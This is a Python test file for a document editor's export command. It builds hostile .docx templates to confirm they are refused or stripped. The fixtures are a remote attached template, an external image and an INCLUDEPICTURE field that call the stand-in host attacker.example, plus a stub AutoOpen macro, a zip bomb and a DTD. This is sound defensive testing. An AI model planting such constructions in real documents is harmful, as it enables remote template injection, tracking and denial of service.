"""A hostile or damaged --template is refused or cleaned with one line: nothing it links to,
no macro and no zip bomb reaches the export, and never a traceback."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest

from plutoeditor.cli.main import main
from plutoeditor.export.docx_template import DEFAULT_TEMPLATE

POLICY = "1 Scope\n\n1.1 This notice applies to the shop.\n\n2 Contact\n\n2.1 Write to us.\n"
ATTACKER = "attacker.example"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
CT_HEADER = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"


def _rels(*relationships: str) -> bytes:
    body = "".join(relationships)
    ns = "http://schemas.openxmlformats.org/package/2006/relationships"
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{ns}">{body}</Relationships>'.encode()
    )


def _template(tmp_path: Path, name: str = "firm.docx", add=None, drop=(), edit=None) -> Path:
    """The shipped template with parts added, dropped, or edited (name -> function of the text)."""
    add, edit = add or {}, edit or {}
    path = tmp_path / name
    with (
        DEFAULT_TEMPLATE.open("rb") as raw,
        zipfile.ZipFile(raw) as source,
        zipfile.ZipFile(path, "w") as target,
    ):
        for item in source.infolist():
            if item.filename in drop or item.filename in add:
                continue
            data = source.read(item)
            if item.filename in edit:
                data = edit[item.filename](data.decode()).encode()
            target.writestr(item, data, zipfile.ZIP_DEFLATED)
        for part, data in add.items():
            target.writestr(part, data, zipfile.ZIP_DEFLATED)
    return path


def _with_header(header_xml: str, header_rels: bytes | None = None, tmp_path: Path | None = None) -> Path:
    """A template whose page header is `header_xml` (and its relationships)."""
    assert tmp_path is not None
    add = {"word/header1.xml": header_xml.encode()}
    if header_rels is not None:
        add["word/_rels/header1.xml.rels"] = header_rels
    rel = f'<Relationship Id="rIdH1" Type="{REL}/header" Target="header1.xml"/>'
    return _template(
        tmp_path,
        add=add,
        edit={
            "word/_rels/document.xml.rels": lambda t: t.replace("</Relationships>", rel + "</Relationships>"),
            "word/document.xml": lambda t: t.replace(
                "<w:pgSz", '<w:headerReference w:type="default" r:id="rIdH1"/><w:pgSz'
            ),
            "[Content_Types].xml": lambda t: t.replace(
                "</Types>", f'<Override PartName="/word/header1.xml" ContentType="{CT_HEADER}"/></Types>'
            ),
        },
    )


def _export(tmp_path: Path, template: Path, capsys) -> tuple[int, str, Path]:
    source = tmp_path / "policy.txt"
    source.write_text(POLICY)
    out = tmp_path / "out.docx"
    status = main(["export", str(source), "-o", str(out), "--template", str(template)])
    err = capsys.readouterr().err
    assert "Traceback" not in err and len(err.strip().splitlines()) <= 1, err
    return status, err.strip(), out


def _all_parts(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "".join(archive.read(name).decode("utf-8", "replace") for name in archive.namelist())


def test_a_remote_attached_template_is_removed_from_the_export(tmp_path, capsys):
    rel = (
        f'<Relationship Id="rIdT" Type="{REL}/attachedTemplate" '
        f'Target="http://{ATTACKER}/normal.dotm" TargetMode="External"/>'
    )
    template = _template(
        tmp_path,
        add={"word/_rels/settings.xml.rels": _rels(rel)},
        edit={
            "word/settings.xml": lambda t: t.replace(
                "<w:defaultTabStop", '<w:attachedTemplate r:id="rIdT"/><w:defaultTabStop', 1
            )
        },
    )
    assert ATTACKER in _all_parts(template)
    status, err, out = _export(tmp_path, template, capsys)
    assert status == 0, err
    parts = _all_parts(out)
    assert ATTACKER not in parts and "attachedTemplate" not in parts
    assert "Write to us." in parts


def test_a_remote_picture_in_the_letterhead_is_refused(tmp_path, capsys):
    header = f'<w:hdr {W} xmlns:r="{REL}"><w:p><w:r><w:t>Firm letterhead</w:t></w:r></w:p></w:hdr>'
    rels = _rels(
        f'<Relationship Id="rIdImg" Type="{REL}/image" '
        f'Target="https://{ATTACKER}/logo.png" TargetMode="External"/>'
    )
    status, err, out = _export(tmp_path, _with_header(header, rels, tmp_path), capsys)
    assert status == 2
    assert err.endswith("firm.docx: links to an external image "
                        f"(https://{ATTACKER}/logo.png) in word/_rels/header1.xml.rels; a template must not "
                        "make Word fetch anything: embed the picture or object, or remove it")  # fmt: skip
    assert not out.exists()


def test_a_fetching_field_in_the_letterhead_is_refused(tmp_path, capsys):
    header = (
        f'<w:hdr {W}><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve">'
        f' INCLUDEPICTURE "http://{ATTACKER}/track.png" \\d </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:hdr>'
    )
    status, err, out = _export(tmp_path, _with_header(header, None, tmp_path), capsys)
    assert status == 2 and f"INCLUDEPICTURE field (http://{ATTACKER}/track.png)" in err
    assert not out.exists()


def test_a_template_with_a_vba_project_is_refused(tmp_path, capsys):
    vba = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    rel = f'<Relationship Id="rIdV" Type="{vba}" Target="vbaProject.bin"/>'
    template = _template(
        tmp_path,
        add={"word/vbaProject.bin": b'\xd0\xcf\x11\xe0 Attribute VB_Name = "AutoOpen"'},
        edit={
            "word/_rels/document.xml.rels": lambda t: t.replace("</Relationships>", rel + "</Relationships>")
        },
    )
    status, err, out = _export(tmp_path, template, capsys)
    assert status == 2 and "contains macros or an embedded program (word/vbaProject.bin)" in err
    assert not out.exists()


def test_a_small_template_that_expands_without_end_is_refused_as_a_zip_bomb(tmp_path, capsys):
    path = _template(tmp_path)
    with (
        zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("word/glossary.xml", "w") as member,
    ):
        zeros = bytes(1 << 20)
        for _ in range(100):  # 100 MiB of zeros in about 100 KB
            member.write(zeros)
    assert path.stat().st_size < 1_000_000
    status, err, out = _export(tmp_path, path, capsys)
    assert status == 2 and "refused as a possible zip bomb" in err
    assert not out.exists()


MALFORMED = {
    "styles not XML": {"edit": {"word/styles.xml": lambda t: t[: len(t) // 2]}},
    "document not XML": {"edit": {"word/document.xml": lambda t: "<w:document"}},
    "no content types": {"drop": ("[Content_Types].xml",)},
    "no document part": {"drop": ("word/document.xml",)},
    "no section": {
        "edit": {"word/document.xml": lambda t: t.split("<w:sectPr")[0] + "</w:body></w:document>"}
    },
    "a DTD": {
        "edit": {"word/settings.xml": lambda t: t.replace("?>", '?><!DOCTYPE x [<!ENTITY a "b">]>', 1)}
    },
    "header missing": {
        "edit": {
            "word/_rels/document.xml.rels": lambda t: t.replace(
                "</Relationships>",
                f'<Relationship Id="rIdH9" Type="{REL}/header" Target="nowhere.xml"/></Relationships>',
            ),
            "word/document.xml": lambda t: t.replace(
                "<w:pgSz", '<w:headerReference w:type="default" r:id="rIdH9"/><w:pgSz'
            ),
        }
    },
    "settings not settings": {"edit": {"word/settings.xml": lambda t: f"<w:styles {W}/>"}},
    "core properties garbage": {"edit": {"docProps/core.xml": lambda t: "<x/>"}},
}


@pytest.mark.parametrize("case", list(MALFORMED), ids=list(MALFORMED))
def test_a_malformed_template_is_one_line_naming_it(tmp_path, capsys, case):
    template = _template(tmp_path, **MALFORMED[case])
    status, err, out = _export(tmp_path, template, capsys)
    if case == "a DTD":
        assert status == 2 and "declares a DTD or entities" in err
    if status == 0:  # damage python-docx can live with: the export must still be sound
        assert "Write to us." in _all_parts(out)
        return
    assert status == 2 and err.startswith(f"plutoeditor: {template}: "), err
    assert not out.exists()
